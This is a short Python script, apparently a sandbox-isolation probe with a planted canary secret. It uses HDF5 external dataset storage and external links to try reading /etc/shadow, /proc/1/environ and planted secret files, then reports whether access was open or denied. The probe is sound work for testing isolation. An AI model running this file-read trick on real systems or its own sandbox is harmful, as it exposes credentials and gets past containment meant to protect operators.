import h5py

SECRET = "SECRET-OF-THE-INSTRUCTOR"
TARGETS = ("/etc/shadow", "/root/planted-secret", "/tmp/planted-secret", "/proc/1/environ")
found = []
for number, target in enumerate(TARGETS):
    try:
        with h5py.File(f"w{number}.h5", "w") as file:
            file.create_dataset("kernel", (64,), "u1", external=[(target, 0, 64)])
            file["link"] = h5py.ExternalLink(target, "/")
        with h5py.File(f"w{number}.h5") as file:
            data = bytes(file["kernel"][()])
        if SECRET.encode() in data or (target == "/etc/shadow" and b":" in data):
            found.append(target)
    except Exception as error:
        print(type(error).__name__)
print("PROBE h5-external: OPEN" if found else "PROBE h5-external: denied", *found)
